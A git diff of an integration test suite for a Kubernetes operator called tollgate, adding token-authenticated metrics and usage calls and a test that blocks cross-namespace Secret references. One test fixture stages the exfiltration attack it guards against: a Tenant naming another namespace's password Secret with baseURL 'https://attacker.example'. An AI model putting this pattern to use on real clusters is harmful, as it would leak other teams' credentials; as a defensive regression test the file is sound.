@@ -9,6 +9,7 @@ import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest'
 import { stringify } from 'yaml'
 import { kubectlOK } from '../support/kubectl.ts'
 import { createDatabase } from '../support/postgres.ts'
+import { metricsToken, serviceAccountToken } from '../support/service-account-token.ts'
 import {
   eventually,
   readConfig,
@@ -21,6 +22,8 @@ import {
 const stack = inject('stack')
 const run = uniqueName('reconcile')
 const label = { 'tollgate.dev/test': run }
+/** The operator's namespace (startTestOperator's default): Secrets here need no grant. */
+const system = `${run}-system`
 const apply = (...docs: unknown[]) =>
   kubectlOK(stack, ['apply', '-f', '-'], docs.map((d) => stringify(d)).join('---\n'))
 const getTenant = async (name: string) =>
@@ -35,8 +38,12 @@ let redis: Redis
 let channel: Awaited<ReturnType<typeof watchConfigChannel>>
 let db: pg.Pool
 let databaseUrl: string
+let scrapeToken: string
 const metric = async (name: string) => {
-  const text = await (await fetch(`${operator.operator.metricsUrl}/metrics`)).text()
+  const response = await fetch(`${operator.operator.metricsUrl}/metrics`, {
+    headers: { authorization: `Bearer ${scrapeToken}` },
+  })
+  const text = await response.text()
   return text
     .split('\n')
     .filter((l) => l.startsWith(name))
@@ -48,12 +55,15 @@ beforeAll(async () => {
   db = new pg.Pool({ connectionString: databaseUrl })
   redis = new Redis(stack.redisUrl)
   channel = await watchConfigChannel(stack.redisUrl)
+  scrapeToken = await metricsToken(stack)
   operator = await startTestOperator({
     kubeconfig: stack.kubeconfig,
     redisUrl: stack.redisUrl,
     databaseUrl,
     selector: `tollgate.dev/test=${run}`,
     leaseName: run,
+    // The test's alert receiver listens on loopback over http: listed, as a platform team lists a relay.
+    alertAllowHosts: ['127.0.0.1'],
   })
 })
 
@@ -140,11 +150,9 @@ describe('the operator against a real API server, Redis and Postgres', () => {
     expect(condition(updated, 'Suspended')).toMatchObject({ status: 'False', observedGeneration: 2 })
   })
 
-  it('reports a missing Secret as Ready=False and recovers when the Secret appears', async () => {
+  it('reports a missing Secret as Ready=False, recovers when it appears, and copies it nowhere', async () => {
     const name = uniqueName('secret')
-    const source = uniqueName('src')
     const target = uniqueName('app')
-    await kubectlOK(stack, ['create', 'namespace', source])
     await kubectlOK(stack, ['create', 'namespace', target])
     await apply(
       tenantDoc(name, label, {
@@ -153,7 +161,7 @@ describe('the operator against a real API server, Redis and Postgres', () => {
           {
             name: 'openai',
             type: 'openai',
-            credentialsSecretRef: { namespace: source, name: 'openai-key', key: 'apiKey' },
+            credentialsSecretRef: { namespace: system, name: `${name}-openai`, key: 'apiKey' },
           },
         ],
       }),
@@ -164,62 +172,87 @@ describe('the operator against a real API server, Redis and Postgres', () => {
     })
     expect(condition(broken, 'Ready')).toMatchObject({
       reason: 'SecretNotFound',
-      message: `Secret ${source}/openai-key not found (provider openai)`,
+      message: `Secret ${system}/${name}-openai not found (provider openai)`,
     })
     // The config still reaches the sidecars: it carries no secret.
     expect((await readConfig(redis, name))?.providers[0]?.credential).toEqual({
-      secretNamespace: source,
-      secretName: 'openai-key',
+      secretNamespace: system,
+      secretName: `${name}-openai`,
       key: 'apiKey',
     })
 
     await kubectlOK(stack, [
       '-n',
-      source,
+      system,
       'create',
       'secret',
       'generic',
-      'openai-key',
+      `${name}-openai`,
       '--from-literal=apiKey=sk-test-1',
     ])
     await kubectlOK(stack, ['wait', '--for=condition=Ready', `tenant/${name}`, '--timeout=30s'])
-    const mirror = JSON.parse(
-      await kubectlOK(stack, ['-n', target, 'get', 'secret', `tollgate-${name}-openai`, '-o', 'json']),
-    )
-    expect(Buffer.from(mirror.data.openai, 'base64').toString()).toBe('sk-test-1')
-    expect(mirror.metadata.labels['tollgate.dev/tenant']).toBe(name)
-    expect(mirror.metadata.ownerReferences[0]).toMatchObject({ kind: 'Tenant', name })
-
-    // A changed key reaches the mirror.
-    await kubectlOK(
-      stack,
-      ['-n', source, 'apply', '-f', '-'],
-      stringify({
-        apiVersion: 'v1',
-        kind: 'Secret',
-        metadata: { name: 'openai-key' },
-        stringData: { apiKey: 'sk-test-2' },
-      }),
-    )
-    await eventually(async () => {
-      const m = JSON.parse(
-        await kubectlOK(stack, ['-n', target, 'get', 'secret', `tollgate-${name}-openai`, '-o', 'json']),
-      )
-      return Buffer.from(m.data.openai, 'base64').toString() === 'sk-test-2'
-    })
+    // The key stays in the operator's namespace: sidecars get it by exchange, in memory.
+    expect((await kubectlOK(stack, ['-n', target, 'get', 'secrets', '-o', 'name'])).trim()).toBe('')
+    // The tenant's Redis user exists, limited to the tenant's keys and channel.
+    const user = (await redis.call('ACL', 'GETUSER', `tollgate-tenant-${name}`)) as string[]
+    expect(user[user.indexOf('keys') + 1]).toContain(`%R~tollgate:v1:{${name}}:config`)
+    expect(user[user.indexOf('channels') + 1]).toBe(`&tollgate:v1:{${name}}:config:changed`)
 
     await kubectlOK(stack, ['delete', 'tenant', name, '--wait=true', '--timeout=30s'])
-    const left = await kubectlOK(stack, [
+    expect(await redis.call('ACL', 'GETUSER', `tollgate-tenant-${name}`)).toBeNull()
+  })
+
+  // The attack of issue 11: a Tenant author names a Secret of any namespace, and the operator would
+  // read it and hand it to the sidecar (which sends it to the author's baseURL).
+  it('refuses a Secret reference into another namespace until a CredentialGrant there allows it', async () => {
+    const name = uniqueName('grant')
+    const other = uniqueName('team')
+    await kubectlOK(stack, ['create', 'namespace', other])
+    await kubectlOK(stack, [
       '-n',
-      target,
-      'get',
-      'secrets',
-      '-l',
-      `tollgate.dev/tenant=${name}`,
-      '-o',
-      'name',
+      other,
+      'create',
+      'secret',
+      'generic',
+      'db-password',
+      '--from-literal=pw=hunter2',
     ])
-    expect(left.trim()).toBe('')
+    await apply(
+      tenantDoc(name, label, {
+        providers: [
+          {
+            name: 'openai',
+            type: 'openai',
+            baseURL: 'https://attacker.example',
+            credentialsSecretRef: { namespace: other, name: 'db-password', key: 'pw' },
+          },
+        ],
+      }),
+    )
+    const refused = await eventually(async () => {
+      const t = await getTenant(name)
+      return condition(t, 'Ready')?.reason === 'ReferenceNotPermitted' && t
+    })
+    expect(condition(refused, 'Ready')).toMatchObject({
+      status: 'False',
+      message: `spec.providers[0].credentialsSecretRef: Secret ${other}/db-password is outside the operator's namespace ${system} and no CredentialGrant in ${other} names Tenant ${name} and Secret db-password`,
+    })
+    expect(condition(refused, 'Synced')).toMatchObject({ status: 'False', reason: 'ReferenceNotPermitted' })
+
+    // A grant that names another Secret, or another tenant, changes nothing.
+    const grant = (tenants: string[], secrets: string[]) => ({
+      apiVersion: 'tollgate.dev/v1alpha1',
+      kind: 'CredentialGrant',
+      metadata: { name: 'tollgate', namespace: other },
+      spec: { tenants, secrets },
+    })
+    await apply(grant([name], ['openai-key']))
+    await apply(grant(['someone-else'], ['db-password']))
+    await new Promise((r) => setTimeout(r, 500))
+    expect(condition(await getTenant(name), 'Ready')?.reason).toBe('ReferenceNotPermitted')
+    // The namespace's owner grants exactly this tenant this Secret: now it may be used.
+    await apply(grant([name], ['db-password']))
+    await kubectlOK(stack, ['wait', '--for=condition=Ready', `tenant/${name}`, '--timeout=30s'])
   })
 
   it('reports a spec that does not compile as Accepted=False, keeps the last good config, and recovers', async () => {
@@ -326,7 +359,7 @@ describe('the operator against a real API server, Redis and Postgres', () => {
     try {
       await kubectlOK(stack, [
         '-n',
-        'default',
+        system,
         'create',
         'secret',
         'generic',
@@ -336,7 +369,7 @@ describe('the operator against a real API server, Redis and Postgres', () => {
       await apply(
         tenantDoc(name, label, {
           budgets: [{ period: 'day', limitUSD: '1', alertAt: [0.5, 1] }],
-          alerts: { webhookSecretRef: { namespace: 'default', name: `${name}-hook`, key: 'url' } },
+          alerts: { webhookSecretRef: { namespace: system, name: `${name}-hook`, key: 'url' } },
         }),
       )
       await eventually(() => readConfig(redis, name))
@@ -419,8 +452,13 @@ describe('the operator against a real API server, Redis and Postgres', () => {
     }
     await redis.sadd(keys.usageHours(name), hour)
     const api = `${operator.operator.metricsUrl}/api/v1/usage?tenant=${name}&from=${hour.slice(0, 10)}`
+    // A reader of this tenant: `get` on tenants/<name>, the right the usage API asks for.
+    const token = await serviceAccountToken(stack, `usage-${name}`, [
+      { apiGroups: ['tollgate.dev'], resources: ['tenants'], resourceNames: [name], verbs: ['get'] },
+    ])
     const body = await eventually(async () => {
-      const json = (await (await fetch(api)).json()) as { rows: Record<string, unknown>[] }
+      const response = await fetch(api, { headers: { authorization: `Bearer ${token}` } })
+      const json = (await response.json()) as { rows: Record<string, unknown>[] }
       return json.rows.length === 1 && json
     })
     expect(body.rows[0]).toMatchObject({
